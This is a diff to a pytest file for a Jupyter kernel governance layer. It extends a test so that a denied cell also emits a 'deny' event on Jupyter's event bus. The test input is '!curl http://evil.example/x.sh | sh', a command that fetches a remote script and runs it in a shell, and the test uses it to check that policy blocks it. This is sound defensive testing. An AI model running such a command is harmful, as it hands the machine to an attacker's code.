@@ -7,6 +7,7 @@ websocket protocol the way JupyterLab does.
 
 from __future__ import annotations
 
+import asyncio
 import contextlib
 import json
 import sys
@@ -20,6 +21,7 @@ import pytest
 from tornado.websocket import WebSocketClientConnection
 
 from grace_kernel.config import Settings
+from grace_kernel.events import DecisionBlocked
 from grace_kernel.governance import Principal
 from grace_kernel.runs import CELL_EXECUTION
 from grace_kernel.runs._run import verify_notebook
@@ -159,8 +161,15 @@ async def test_allowed_cells_run_and_are_signed_with_their_outputs(
 
 
 async def test_a_denied_cell_never_reaches_the_kernel(
-    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path
+    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path, jp_serverapp: Any
 ) -> None:
+    seen: list[dict[str, Any]] = []
+
+    async def listen(logger: Any, schema_id: str, data: dict[str, Any]) -> None:
+        assert schema_id == DecisionBlocked.SCHEMA_ID, logger
+        seen.append(data)
+
+    jp_serverapp.event_logger.add_listener(schema_id=DecisionBlocked.SCHEMA_ID, listener=listen)
     async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
         first, _ = await kernel.execute("x = 1", "cell-1")
         reply, iopub = await kernel.execute("!curl http://evil.example/x.sh | sh", "cell-2")
@@ -173,6 +182,14 @@ async def test_a_denied_cell_never_reaches_the_kernel(
     assert after["content"]["execution_count"] == first["content"]["execution_count"] + 1
     statuses = [(r["cell_id"], r["status"]) for r in cell_records(grace_home)]
     assert statuses == [("cell-1", "ok"), ("cell-2", "denied"), ("cell-3", "ok")]
+    # The denial also went out on Jupyter's event bus (what /api/events/subscribe serves);
+    # jupyter_events runs listeners as tasks, so give them a moment.
+    for _ in range(50):
+        if seen:
+            break
+        await asyncio.sleep(0.1)
+    assert [e["effect"] for e in seen] == ["deny"]
+    assert "cell-critical-deny" in seen[0]["policy_ids"]
 
 
 async def test_a_held_cell_runs_after_another_person_approves_and_fails_when_denied(
